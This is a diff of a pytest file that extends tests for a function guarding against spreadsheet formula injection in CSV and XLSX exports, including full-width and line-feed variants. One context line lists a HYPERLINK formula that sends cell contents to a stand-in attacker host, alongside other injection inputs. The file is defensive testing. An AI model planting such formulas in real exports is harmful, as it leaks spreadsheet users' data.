@@ -34,10 +34,30 @@ NASTY = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+32 9 264 11 11", "-
 @pytest.mark.parametrize(("value", "expected"), [
     ("=1+1", "'=1+1"), ("+32 9 264 11 11", "'+32 9 264 11 11"), ("-5", "'-5"),
     ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Acme NV", "Acme NV"),
-    ("", ""), (D("-5.00"), D("-5.00")), (7, 7), (None, None), (START, START),
+    ("\n=1+1", "'\n=1+1"), ("\n", "'\n"),  # a line feed hides the formula on the second line
+    ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"), ("\uff0b32 9", "'\uff0b32 9"),  # full-width = and +
+    ("\uff0d5", "'\uff0d5"), ("\uff20SUM(A1)", "'\uff20SUM(A1)"),  # full-width - and @
+    ("a\n=1", "a\n=1"), (" =1", " =1"), ("'=1", "'=1"), ("12.50", "12.50"),
+    ("-12.50", "'-12.50"),  # text that looks like a number is still text
+    ("", ""), (D("-5.00"), D("-5.00")), (D("-12.50"), D("-12.50")), (-3, -3), (-1.5, -1.5),
+    (7, 7), (None, None), (START, START),
 ])
 def test_neutralise(value, expected):
     assert neutralise(value) == expected
+
+
+def test_negative_amounts_stay_numbers_unprefixed_in_csv_and_xlsx(tmp_path):
+    """Amounts are typed as numbers (Decimal, int): in CSV they are written as they are, with a
+    decimal comma and no apostrophe; in XLSX they are number cells that sum."""
+    line = [D("-12.50"), D("-0.01"), -3, "-12.50", "\n=1+1"]
+    header, written = read_csv(stream_csv([["a", "b", "c", "d", "e"], line]))
+    assert written == ["-12,50", "-0,01", "-3", "'-12.50", "'\n=1+1"]
+    path = tmp_path / "amounts.xlsx"
+    with path.open("wb") as target:
+        write_xlsx([["a", "b", "c", "d", "e"], line], target)
+    cells = load_workbook(path).active[2]
+    assert [cell.data_type for cell in cells] == ["n", "n", "n", "s", "s"]
+    assert [cell.value for cell in cells] == [-12.5, -0.01, -3, "'-12.50", "'\n=1+1"]
 
 
 def invoice(edition, day, name="An Peeters", **buyer):
